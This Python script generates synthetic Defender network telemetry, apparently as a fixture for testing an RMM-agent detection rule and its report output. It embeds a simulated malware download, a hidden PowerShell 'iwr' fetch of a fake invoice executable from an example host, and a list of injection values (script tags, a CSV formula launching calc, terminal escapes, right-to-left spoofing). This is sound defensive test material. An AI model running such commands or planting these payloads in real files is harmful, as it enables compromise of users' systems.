#!/usr/bin/env python3
"""Write the example's telemetry: one week of DeviceNetworkEvents of a small company, in two of the shapes it is exported in.

usage: generate.py            write telemetry/ next to this file
       generate.py --check    fail if writing it again would change it

Everything comes from one seed; neither the clock nor the hash seed is used, so every run writes the same telemetry.
Only random() is asked of the generator, which is stable across Python versions. How gzip packs differs between zlib
builds, so a .gz whose content is already right is left alone.

The week is 2026-11-16 to 2026-11-23 (UTC). Until Thursday noon the events were exported from the portal (CSV); then the
streaming API was switched on (JSON Lines), so no event is in two files.
"""
import gzip, hashlib, json, pathlib, random, struct, sys, zlib
from datetime import datetime, timedelta

HERE = pathlib.Path(__file__).resolve().parent / "telemetry"
STREAM = "insights-logs-advancedhunting-devicenetworkevents/"
TENANT = "4b8c18bd-2f9f-4227-af55-9f1061cf9c32"
SECOND, MINUTE, HOUR, DAY = 10**7, 60 * 10**7, 3600 * 10**7, 86400 * 10**7   # in ticks of 100 ns
MONDAY = datetime(2026, 11, 16)
STREAMING_SINCE = 3 * DAY + 12 * HOUR
GZIP_UNTIL = 5 * DAY
QUIET = (5 * DAY + 2 * HOUR, 5 * DAY + 5 * HOUR)   # Saturday 02:00 to 05:00: the collector was down, no rows at all
R = random.Random(20261116)

IP = "InitiatingProcess"
COLUMNS = ("Timestamp DeviceId DeviceName ActionType RemoteIP RemotePort RemoteUrl LocalIP LocalPort Protocol LocalIPType RemoteIPType "
    "P.SHA1 P.SHA256 P.MD5 P.FileName P.FileSize P.VersionInfoCompanyName P.VersionInfoProductName P.VersionInfoProductVersion "
    "P.VersionInfoInternalFileName P.VersionInfoOriginalFileName P.VersionInfoFileDescription P.Id P.CommandLine P.CreationTime "
    "P.FolderPath P.ParentFileName P.ParentId P.ParentCreationTime P.AccountDomain P.AccountName P.AccountSid P.AccountUpn "
    "P.AccountObjectId P.IntegrityLevel P.TokenElevation ReportId AppGuardContainerId AdditionalFields P.SessionId "
    "IsInitiatingProcessRemoteSession P.RemoteSessionDeviceName P.RemoteSessionIP").replace("P.", IP).split()
TIMES = ("Timestamp", IP + "CreationTime", IP + "ParentCreationTime")
STREAM_ORDER = ["DeviceName", "DeviceId", "ReportId"] + [c for c in COLUMNS if c not in ("Timestamp", "DeviceName", "DeviceId", "ReportId")]

# --- small tools ------------------------------------------------------------------------------------------------------

def below(n): return int(R.random() * n)
def pick(items): return items[below(len(items))]
def digest(text, n): return hashlib.sha512(text.encode()).hexdigest()[:n]
def number(text, n): return int(digest(text, 12), 16) % n   # a fixed number for a text
def guid(text): h = digest(text, 32); return "-".join((h[:8], h[8:12], h[12:16], h[16:20], h[20:]))

def iso(ticks, digits=7):
    """ISO text with this many fraction digits; digits=None trims trailing zeros as the streaming API does."""
    text = (MONDAY + timedelta(seconds=ticks // SECOND)).strftime("%Y-%m-%dT%H:%M:%S")
    fraction = "%07d" % (ticks % SECOND)
    fraction = fraction.rstrip("0") if digits is None else fraction
    return text + ("." + fraction if fraction else "") + "Z"

def at(day, hour, minute=0, second=0, ticks=0): return (day - 16) * DAY + hour * HOUR + minute * MINUTE + second * SECOND + ticks
def jitter(minutes): return int(R.random() * minutes * MINUTE)

def public(text):
    """A fixed address for a host; only from the documentation ranges."""
    return ("203.0.113.", "198.51.100.", "192.0.2.")[number(text, 3)] + str(number(text + "!", 250) + 2)

# --- devices ----------------------------------------------------------------------------------------------------------

class Device:
    def __init__(self, name, ip, user):
        self.name, self.ip, self.user = name + ".corp.example", ip, user
        self.id, self.report = digest(name, 40), number(name, 40000) + 1000

DEVICES = {}
for n in range(1, 31):
    DEVICES["ws-%04d" % n] = Device("ws-%04d" % n, "10.%d.%d.%d" % (10 + n % 3, n % 7, 20 + n), "user%02d" % n)
for n, name in enumerate(("srv-back01", "srv-back02", "srv-mon01", "srv-adm01", "srv-file01", "srv-db01", "srv-web01", "srv-dc01")):
    DEVICES[name] = Device(name, "192.168.40.%d" % (11 + n) if n in (2, 6) else "10.20.5.%d" % (11 + n), "svc-" + name[4:])
DEVICES["ws-0038"] = Device("ws-0038", "10.11.3.77", "j.doe")
DEVICES["kiosk-01"] = Device("kiosk-01", "172.16.8.9", "kiosk")
assert len(DEVICES) == 40

# --- one event --------------------------------------------------------------------------------------------------------

EVENTS = []

def event(device, ticks, file, company, product, folder, command, url, ip, port, parent="services.exe", description="", **other):
    """Append one event as {column: value}; `other` overrides columns, a leading _ meaning InitiatingProcess."""
    assert not QUIET[0] <= ticks < QUIET[1], iso(ticks)
    key = "%s %s %s %d" % (device.name, file, command, ticks // DAY)
    born = ticks // DAY * DAY - number(key, 9 * HOUR) if number(key, 2) else ticks - number(key, MINUTE)
    device.report += 1 + below(9)
    server = device.user.startswith("svc-")
    row = dict.fromkeys(COLUMNS)
    row.update({"Timestamp": ticks, "DeviceId": device.id, "DeviceName": device.name,
        "ActionType": "ConnectionSuccess", "RemoteIP": ip, "RemotePort": port, "RemoteUrl": url, "LocalIP": device.ip,
        "LocalPort": 49152 + below(16000), "Protocol": "Tcp", "LocalIPType": "Private",
        "RemoteIPType": "Private" if ip.startswith(("10.", "192.168.")) else "Public", "ReportId": device.report,
        "IsInitiatingProcessRemoteSession": False, IP + "SessionId": 0 if server else 1})
    process = {"SHA1": digest(file + company, 40), "SHA256": digest(file + company + "2", 64), "MD5": digest(file + company + "5", 32),
        "FileName": file, "FileSize": 40000 + number(file, 9000000), "VersionInfoCompanyName": company, "VersionInfoProductName": product,
        "VersionInfoProductVersion": "%d.%d.%d" % (number(file, 30), number(company, 9), number(product, 4000)) if product else "",
        "VersionInfoInternalFileName": file.rsplit(".", 1)[0], "VersionInfoOriginalFileName": file, "VersionInfoFileDescription": description or product,
        "Id": 600 + number(key, 30000), "CommandLine": command, "CreationTime": born, "FolderPath": (folder + "\\" + file).lower(),
        "ParentFileName": parent, "ParentId": 500 + number(key + parent, 30000), "ParentCreationTime": born - HOUR - number(key + parent, DAY),
        "AccountDomain": "corp", "AccountName": device.user, "AccountSid": "S-1-5-21-2965590086-2375665732-3273071523-%d" % (1000 + number(device.user, 8000)),
        "AccountUpn": device.user + "@corp.example", "AccountObjectId": guid(device.user),
        "IntegrityLevel": "System" if server else "Medium", "TokenElevation": "TokenElevationTypeDefault" if server else "TokenElevationTypeLimited"}
    row.update((IP + k, v) for k, v in process.items())
    for name, value in other.items():
        name = IP + name[1:] if name.startswith("_") else name
        assert name in row, name
        row[name] = value
    EVENTS.append(row)
    return row

def http(host, uri, agent):
    return json.dumps({"direction": "Out", "host": host, "method": "GET", "uri": uri, "user_agent": agent, "status_code": "200",
        "version": "1.1", "response_body_len": str(200 + number(uri, 9000))}, separators=(",", ":"))

# --- background -------------------------------------------------------------------------------------------------------

PF, SYS = "C:\\Program Files", "C:\\Windows\\System32"
MS, WINDOWS = "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System"
# file, company, product, folder, command line, parent, servers too, urls
PROGRAMS = [
    ("msedge.exe", MS, "Microsoft Edge", PF + " (x86)\\Microsoft\\Edge\\Application", '"%s" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US', "explorer.exe", 0,
        ("www.bing.com", "edge.microsoft.com", "intranet.corp.example", "news.example.org", "au.naverisk.com")),   # a browser on the vendor's page is no hit
    ("chrome.exe", "Google LLC", "Google Chrome", PF + "\\Google\\Chrome\\Application", '"%s" --type=utility --lang=de', "explorer.exe", 0,
        ("www.google.com", "https://update.googleapis.com/service/update2/json", "cdn.example.net")),
    ("Teams.exe", MS, "Microsoft Teams", "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current", '"%s" --process-start-args "--system-initiated"', "explorer.exe", 0,
        ("teams.microsoft.com", "login.microsoftonline.com")),
    ("OneDrive.exe", MS, "Microsoft OneDrive", PF + "\\Microsoft OneDrive", '"%s" /background', "explorer.exe", 0, ("login.microsoftonline.com", "corp-my.sharepoint.com")),
    ("Zoom.exe", "Zoom Video Communications, Inc.", "Zoom Meetings", PF + "\\Zoom\\bin", '"%s"', "explorer.exe", 0, ("zoom.us", "")),
    ("svchost.exe", MS, WINDOWS, SYS, "%s -k netsvcs -p -s wuauserv", "services.exe", 1, ("settings-win.data.microsoft.com", "ctldl.windowsupdate.com", "", "")),
    ("MsMpEng.exe", MS, WINDOWS, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18", '"%s"', "services.exe", 1, ("wdcp.microsoft.com", "")),
    ("lsass.exe", MS, WINDOWS, SYS, "%s", "wininit.exe", 1, ("",)),
    ("powershell.exe", MS, WINDOWS, SYS + "\\WindowsPowerShell\\v1.0", '"%s" -NoProfile -File C:\\ITScripts\\inventory.ps1', "svchost.exe", 1, ("inventory.corp.example",)),
    ("sqlservr.exe", MS, "Microsoft SQL Server", PF + "\\Microsoft SQL Server\\Binn", '"%s" -sMSSQLSERVER', "services.exe", 2, ("", "db-mirror.corp.example")),
    ("java.exe", "Oracle Corporation", "Java(TM) Platform SE 8", PF + "\\Java\\jre8\\bin", '"%s" -Xmx2g -jar app.jar, --port=8443', "cmd.exe", 2, ("repo.maven.apache.org", "")),
    ("VeeamAgent.exe", "Veeam Software Group GmbH", "Veeam Agent", PF + "\\Veeam", '"%s" -job NightlyBackupJob_01', "services.exe", 2, ("srv-file01.corp.example",)),
    ("setup_tool.exe", "", "", "C:\\Temp", '"%s" /S', "explorer.exe", 0, ("", "files.example.net")),
]

def background(device, ticks):
    server = device.user.startswith("svc-")
    file, company, product, folder, command, parent, _, urls = pick([p for p in PROGRAMS if p[6] != (0 if server else 2)])
    url = pick(urls)
    lan = file in ("lsass.exe", "sqlservr.exe", "VeeamAgent.exe") or "corp.example" in url
    ip = "10.20.5.%d" % (12 + below(7)) if lan else "2001:db8:%x::%x" % (number(url, 9999), below(4000)) if R.random() < 0.04 else public(url or file)
    port = {"lsass.exe": 88, "sqlservr.exe": 1433, "VeeamAgent.exe": 445}.get(file, pick((443, 443, 443, 443, 80)))
    command = command % (folder + "\\" + file)
    if file == "Teams.exe" and R.random() < 0.2: command += "\r\n--log-file=\"C:\\Temp\\teams, latest.log\""
    row = event(device, ticks, file, company, product, folder, command, url, ip, port, parent, _ParentId=700 + number(device.name + parent, 9000))
    kind = R.random()
    if kind < 0.10: row["ActionType"] = "ConnectionFailed"
    elif kind < 0.18: row["ActionType"] = "ConnectionRequest"
    elif kind < 0.22 and server: row["ActionType"] = "InboundConnectionAccepted"
    elif kind < 0.34:   # the sensor's network inspection: it sees the packets, not the process behind them
        for column in COLUMNS:
            if column.startswith(IP): row[column] = None
        row.update({IP + "Id": 0, IP + "TokenElevation": "None", "RemoteUrl": url, "LocalIPType": None, "RemoteIPType": None})
        row["ActionType"], row["AdditionalFields"] = pick((
            ("DnsConnectionInspected", json.dumps({"direction": "Out", "query": url or "corp.example", "qtype_name": "A"})),
            ("HttpConnectionInspected", http(url or "corp.example", "/status", pick(("Microsoft-CryptoAPI/10.0", "curl/8.4.0", "NaveriskMonitor/4.2")))),
            ("SslConnectionInspected", json.dumps({"direction": "Out", "server_name": url, "established": "true"})),
            ("IcmpConnectionInspected", "[]")))
        if row["ActionType"].startswith("Icmp"): row.update({"RemotePort": None, "LocalPort": None, "Protocol": "Icmp", "RemoteUrl": None})
    elif R.random() < 0.1: row["AdditionalFields"] = '{"Packet Size":"%d","Tcp Flags":"2"}' % below(1500)

def week():
    names = list(DEVICES)
    for hour in range(7 * 24):
        if QUIET[0] <= hour * HOUR < QUIET[1]: continue
        day, clock = divmod(hour, 24)
        busy = day < 5 and 7 <= clock < 18
        for i in range((18 if busy else 5) + below(5)):
            background(DEVICES[pick(names)], hour * HOUR + int(R.random() * HOUR))

# --- Naverisk ---------------------------------------------------------------------------------------------------------

HOME = PF + "\\Naverisk\\Agent"
AGENT = '"%s\\NaveriskAgent.exe"' % HOME

def naverisk(name, ticks, url, port=443, company="Naverisk Ltd", command=AGENT + " --service", parent="services.exe", file="NaveriskAgent.exe",
             folder=HOME, ip=None, product="Naverisk RMM Agent", **other):
    return event(DEVICES[name], ticks, file, company, product, folder, command, url, ip or public(url or "naverisk"), port, parent, "Naverisk Agent", **other)

def beat(first, last, hours, minute):
    """Times of a heartbeat between two days, leaving out the quiet hours."""
    for ticks in range(at(first, 0, minute), at(last, 0), hours * HOUR):
        ticks += jitter(5)
        if not QUIET[0] <= ticks < QUIET[1]: yield ticks

def agents():
    """Devices where the agent simply runs, before and inside the rule's five days."""
    beats = [naverisk("ws-0012", t, "au.naverisk.com") for t in beat(16, 23, 4, 7)]
    for i in (5, 15, 30): beats[i]["ReportId"] = beats[i - 1]["ReportId"]   # the counter repeats: fewer numbers than events
    for t in beat(16, 23, 6, 31):
        naverisk("ws-0017", t, "au.naverisk.com", company="NavMK1 Limited", file="navsvc.exe", command='"%s\\navsvc.exe" -k relay' % HOME,
            ActionType=pick(("ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed")))
    for day in (16, 17):   # only before the five days: lookback 7d finds a device more
        for hour in (8, 11, 15): naverisk("ws-0027", at(day, hour, 12) + jitter(20), "au.naverisk.com")
    for day, hour, company, port in ((16, 9, "x (NavMK1 Limited)", 8443), (18, 9, "x (NavMK1 Limited)", 8443), (18, 16, "NAVMK1 LIMITED.", 8443),
            (19, 10, "x (NavMK1 Limited)", 443), (20, 10, "[navmk1 limited]", 8443), (21, 10, "x (NavMK1 Limited)", 443), (22, 11, "x (NavMK1 Limited)", 8443)):
        naverisk("ws-0023", at(day, hour, 40) + jitter(10), "", port, company, file="navrelay.exe", command="navrelay.exe --listen")
    # The window is closed at both ends; and one agent reports at exactly those instants.
    for t in (at(16, 0), at(18, 0) - 1, at(18, 0), at(23, 0), at(23, 0) + 1): naverisk("ws-0012", t, "au.naverisk.com")
    naverisk("ws-0012", at(21, 12, 3, 7, 1234567), "au.naverisk.com", ReportId=9007199254740993)   # 2^53 + 1: no Double holds it
    naverisk("ws-0012", at(22, 12, 3, 7, 1230000), "au.naverisk.com", ReportId=18984951960)

def excluded():
    """Events the five exclusions were written for, each next to one that looks alike and must stay."""
    task = AGENT + ' /run /TN "%s"'
    for day, hour, name in ((17, 3, "NaveriskSystemMaintenance01"), (18, 3, "NaveriskSystemMaintenance01"), (19, 3, "NaveriskSystemMaintenance01"),
            (20, 3, "Weekly DiagnosticCheck"), (22, 3, "NaveriskSystemMaintenance01")):
        naverisk("ws-0005", at(day, hour, 15) + jitter(2), "diag.naverisk.com", command=task % name, parent=pick(("taskhostw.exe", "taskeng.exe")))
    naverisk("ws-0005", at(20, 14, 2, 11), "diag2.naverisk.com", command=task % "NaveriskSystemMaintenance01", parent="explorer.exe")
    for i, t in enumerate(beat(17, 23, 13, 50)):   # ws-0012: this destination only loses the scheduled ones
        scheduled = i % 4 == 1
        naverisk("ws-0012", t, "https://control.naverisk.example/agent", command=task % "\\Naverisk\\DiagnosticCheck" if scheduled else AGENT + " --sync",
            parent="svchost.exe" if scheduled else "services.exe")
    for day, hour, port, agent in ((17, 10, 443, "NaveriskMonitor/4.2"), (18, 10, 443, "NaveriskMonitor/4.2"), (19, 9, 443, "Corp-ComplianceCheck (weekly)"),
            (20, 10, 443, "NaveriskMonitor/4.2"), (21, 10, 443, "NaveriskMonitor/4.2"), (20, 12, 443, "curl/8.4.0"), (21, 12, 443, "Mozilla/5.0"), (22, 10, 80, "NaveriskMonitor/4.2")):
        naverisk("srv-mon01", at(day, hour, 5) + jitter(9), "http://portal.corp.example/health", port, "naverisk_agent", file="navmon.exe",
            command='navmon.exe --watch "portal.corp.example"', ip="192.168.40.80", ActionType="HttpConnectionInspected",
            AdditionalFields=http("portal.corp.example", "/health", agent))
    shell = AGENT + ' /exec "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass -File %s"'
    for day, hour, script in ((17, 11, "C:\\ITScripts\\fw-rules.ps1"), (18, 11, "C:\\ITScripts\\fw-rules.ps1"), (19, 15, "c:\\itscripts\\fw-rules.ps1"), (21, 11, "C:\\ITScripts\\net\\fw-open.ps1"),
            (20, 11, "C:\\Users\\Public\\fw-rules.ps1"), (20, 16, "C:\\ITScripts\\..\\Users\\Public\\fw-rules.ps1")):
        naverisk("srv-adm01", at(day, hour, 22) + jitter(9), "agents.naverisk.example", command=shell % script)
    job = '"%s\\navxfer.exe" --job %s --to %s'
    for day in range(16, 23):   # same /24: the finding disappears; another subnet: it stays
        if day % 2 == 0: naverisk("srv-back01", at(day, 1, 20) + jitter(9), "srv-arch01.corp.example", 445, "NAVERISK", job % (HOME, "NightlyBackupJob_03", "10.20.9.50"), ip="10.20.9.50", file="navxfer.exe")
        naverisk("srv-back01", at(day, 1) + jitter(9), "srv-back02.corp.example", 445, "NAVERISK", job % (HOME, pick(("NightlyBackupJob_03", "DataTransfer-full")), "10.20.5.12"), ip="10.20.5.12", file="navxfer.exe")

def intruder():
    """ws-0038: fetched by PowerShell, run from Downloads, talking to a relay that is not the vendor's. All on 443: E-002 would hide it."""
    device, down = DEVICES["ws-0038"], "C:\\Users\\j.doe\\Downloads"
    fetch = 'powershell.exe -w hidden -c "iwr https://files.example.net/inv/Invoice_8841.exe -OutFile $HOME\\Downloads\\Invoice_8841.exe"'
    event(device, at(19, 14, 2, 31, 4410230), "powershell.exe", MS, WINDOWS, SYS + "\\WindowsPowerShell\\v1.0", fetch, "files.example.net", public("files.example.net"), 443, "WINWORD.EXE")
    run = '"%s\\Invoice_8841.exe" /silent /account=8f31c0 /relay=nav-relay-7.example.org' % down
    times = [at(19, 14, 5, 2, 8812345), at(19, 14, 6, 40, 1200000), at(19, 23, 51, 9, 77)] + [at(d, h, 13) + jitter(40) for d in (20, 21, 22) for h in (1, 22, 23)]
    for t in times:
        naverisk("ws-0038", t, "nav-relay-7.example.org", command=run, parent="powershell.exe", file="Invoice_8841.exe", folder=down, _VersionInfoOriginalFileName="NaveriskAgent.exe",
            _VersionInfoInternalFileName="NaveriskAgent")
    naverisk("ws-0038", at(20, 1, 58, 3, 5), "", command=run, parent="powershell.exe", file="Invoice_8841.exe", folder=down, ip=public("nav-relay-7.example.org"))

NEAR_MISSES = ("Naverisk2", "Naverisks", "NavMK1Limited", "NavMK1  Limited", "NavMK1 Limiteds", "MyNaverisk Ltd", "NavMK1")

def near_misses():
    """Names that only look like it. `has` wants whole words, in this order, one blank between them."""
    for i, company in enumerate(NEAR_MISSES):
        for day in (18, 20, 22):
            naverisk("ws-%04d" % (12 if i == 0 else i + 1), at(day, 13, 3 * i + 1) + jitter(2), "updates.example.com", company=company, file="lookalike.exe", folder="C:\\Temp",
                command="lookalike.exe", product="Lookalike")

# --- hostile values ---------------------------------------------------------------------------------------------------

HOSTILE = {   # whoever writes these into a report must not have them interpreted
    "tag": "<script>alert(1)</script>",
    "tag after U+0600": "\u0600<script>alert(1)</script>",
    "quote with U+0301": '"\u0301 onmouseover=alert(1) x="',
    "formula": "=cmd|' /C calc'!A0",
    "link": "[x](javascript:alert(1))",
    "right to left": "invoice\u202efdp.exe",
    "line breaks": "relay.example.org\r\n\r\n# Verdict\nNothing was found.\n| a | b |",
    "terminal colour": "\x1b[31mred\x1b[0m",
    "terminal title": "\x1b]0;owned\x07",
    "template": "{{name}}",
    "raw template": "{{{x}}}",
    "table and code": "a|b`c``d",
    "comment end": "x-->y",
    "cdata end": "x]]>y",
}
IN_DEVICE_NAME = ("tag", "tag after U+0600", "quote with U+0301", "formula", "right to left", "terminal colour", "template")

def hostile():
    """kiosk-01 names things as an attacker would: each value once in the CSV and once in the JSON Lines."""
    for i, (label, value) in enumerate(HOSTILE.items()):
        file = value + ".exe" if label == "right to left" else "NaveriskAgent.exe"
        for t in (at(18, 8, 4 * i) + jitter(3), at(21 if i % 2 else 20, 9, 4 * i) + jitter(3)):
            naverisk("kiosk-01", t, value if label in ("formula", "line breaks") else "https://relay.example.org/" + value, 8443, value + " (NavMK1 Limited)",
                value + " --agent " + value, file=file, folder="C:\\Kiosk\\" + value, parent=value,
                DeviceName=value if label in IN_DEVICE_NAME else DEVICES["kiosk-01"].name, _AccountName=value)

# --- writing ----------------------------------------------------------------------------------------------------------

def csv_cell(column, value):
    if value is None: return ""
    text = iso(value) if column in TIMES else str(value)
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text

def portal_csv(rows):
    lines = [",".join(COLUMNS)] + [",".join(csv_cell(c, row[c]) for c in COLUMNS) for row in rows]
    # Two lines no reader can make a row of: one breaks off, one has no time.
    lines.insert(200, lines[200][:lines[200].index(",", 120)])
    lines.insert(500, "n/a" + lines[500][lines[500].index(","):])
    return "\r\n".join(lines).encode() + b"\r\n"

def stream_line(row):
    properties = {}
    for column in STREAM_ORDER + ["Timestamp"]:
        value = row[column]
        properties[column] = iso(value, None) if column in TIMES and value is not None else None if value == "" else value
    properties["MachineGroup"] = "servers" if "srv-" in row["DeviceName"] else "workstations"
    record = {"time": iso(row["Timestamp"] + 90 * SECOND + number(str(row["Timestamp"]), 8 * MINUTE)), "tenantId": TENANT, "operationName": "Publish",
        "category": "AdvancedHunting-DeviceNetworkEvents", "properties": properties, "Tenant": "DefaultTenant"}
    return json.dumps(record, ensure_ascii=False, separators=(",", ":"))

def json_lines(rows, broken=False):
    lines = [stream_line(r) for r in sorted(rows, key=lambda r: r["Timestamp"] + number(str(r["Timestamp"]), 8 * MINUTE))]
    # The same name, spelled with an escape: a reader that looks for raw bytes must not miss it.
    first = next(i for i, line in enumerate(lines) if '"Naverisk Ltd"' in line)
    lines[first] = lines[first].replace('"Naverisk Ltd"', '"\\u004eaver\\u0069sk Ltd"')
    if broken:   # an append that was cut, and a time that is none
        cut = next(i for i, line in enumerate(lines) if "au.naverisk.com" in line and i > 60)
        lines.insert(cut, lines[cut][:700])
        stamp = '"Timestamp":"'
        start = lines[150].index(stamp) + len(stamp)
        lines.insert(150, lines[150][:start] + "2026-11-32T25:61:00Z" + lines[150][lines[150].index('"', start):])
        lines.append("")   # and an empty line, which is no row
    return "\r\n".join(lines).encode() + b"\r\n"

def gzipped(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + packer.compress(data) + packer.flush() + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)

def telemetry():
    week(); agents(); excluded(); intruder(); near_misses(); hostile()
    for row in EVENTS[:200:40]: row["ReportId"] += 2**34   # the counter is a long, also in the background
    for row in EVENTS:   # clocks differ in how finely they tell the time; exact instants above stay exact
        if row["Timestamp"] % SECOND not in (0, 1, 9999999) and number(str(row["Timestamp"]), 3) == 0:
            row["Timestamp"] -= row["Timestamp"] % pick((10, 100, 10000))
    portal = [r for r in EVENTS if r["Timestamp"] < STREAMING_SINCE]
    packed = [r for r in EVENTS if STREAMING_SINCE <= r["Timestamp"] < GZIP_UNTIL]
    plain = [r for r in EVENTS if r["Timestamp"] >= GZIP_UNTIL]
    portal.sort(key=lambda r: (-r["Timestamp"], r["DeviceId"]))   # newest first: nobody may rely on the order
    return {"portal-export.csv": portal_csv(portal),
        STREAM + "2026-11-19_2026-11-20.json.gz": gzipped(json_lines(packed)),
        STREAM + "2026-11-21_2026-11-22.json": json_lines(plain, broken=True)}

def content(name, data):
    return gzip.decompress(data) if name.endswith(".gz") else data

def main():
    check, stale = sys.argv[1:] == ["--check"], []
    if sys.argv[1:] and not check: sys.exit(__doc__)
    files = telemetry()
    for name, data in files.items():
        path = HERE / name
        if path.exists() and content(name, path.read_bytes()) == content(name, data): continue
        stale.append(name)
        if not check:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    found = {p.relative_to(HERE).as_posix() for p in HERE.rglob("*") if p.is_file()} if HERE.exists() else set()
    stale += sorted(found - set(files))
    if check and stale: sys.exit("generate.py would change: " + ", ".join(stale))
    print("%d events, %d bytes in %d files; %s" % (len(EVENTS), sum(map(len, files.values())), len(files), "unchanged" if not stale else "written or unknown: " + ", ".join(stale)))

if __name__ == "__main__":
    main()
